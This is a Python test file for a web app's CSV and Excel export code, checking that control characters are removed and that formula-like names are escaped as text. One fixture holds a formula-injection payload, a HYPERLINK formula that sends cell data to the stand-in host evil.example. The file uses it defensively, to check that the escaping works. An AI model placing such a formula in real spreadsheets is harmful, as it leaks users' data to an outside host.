"""CSV and Excel downloads (web/exports.py)."""
from __future__ import annotations

import io

from openpyxl import load_workbook

from tests.web.conftest import basic
from web.exports import Column, csv_bytes, xlsx_bytes


def test_text_with_control_characters_still_makes_a_workbook() -> None:
    """Found by schemathesis: a department named with a control character made every .xlsx a 500."""
    columns = [Column("department", "部门"), Column("open", "在办", "int")]
    rows = [{"department": "甲\x1c局\x00", "open": 3}]
    book = load_workbook(io.BytesIO(xlsx_bytes(columns, rows, "departments")))
    assert [[c.value for c in row] for row in book.active.iter_rows()] == [["部门", "在办"], ["甲局", 3]]
    assert "甲\x1c局" in csv_bytes(columns, rows).decode("utf-8-sig")


def test_text_that_looks_like_a_formula_stays_text() -> None:
    """CSV / formula injection: an applicant or department name must never run in the supervisor's Excel."""
    columns = [Column("name", "名称"), Column("n", "数", "int")]
    rows = [{"name": '=HYPERLINK("http://evil.example/?"&A1,"点我")', "n": -3}, {"name": "+86 138", "n": 1},
            {"name": "@SUM(A1)", "n": 2}, {"name": "-2+3", "n": 3}, {"name": "张三", "n": 4}]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(columns, rows, "t"))).active
    cells = [row for row in sheet.iter_rows(min_row=2)]
    assert [c[0].value for c in cells] == ["'" + r["name"] for r in rows[:4]] + ["张三"]
    assert {c[0].data_type for c in cells} == {"s"} and cells[0][1].value == -3  # numbers stay numbers
    text = csv_bytes(columns, rows).decode("utf-8-sig")
    assert "\r\n\"'=HYPERLINK(" in text and "'+86 138" in text and "'@SUM(A1)" in text and ",-3\r\n" in text


def test_a_department_named_like_a_formula_exports_as_text(client, staff) -> None:
    created = client.post("/api/v1/departments", json={"code": "evil", "name": "=1+2"}, headers=basic("admin"))
    assert created.status_code == 201
    book = client.get("/api/v1/board/departments?format=xlsx", headers=basic("supervisor"))
    values = [c.value for row in load_workbook(io.BytesIO(book.data)).active.iter_rows() for c in row]
    assert "'=1+2" in values and "=1+2" not in values
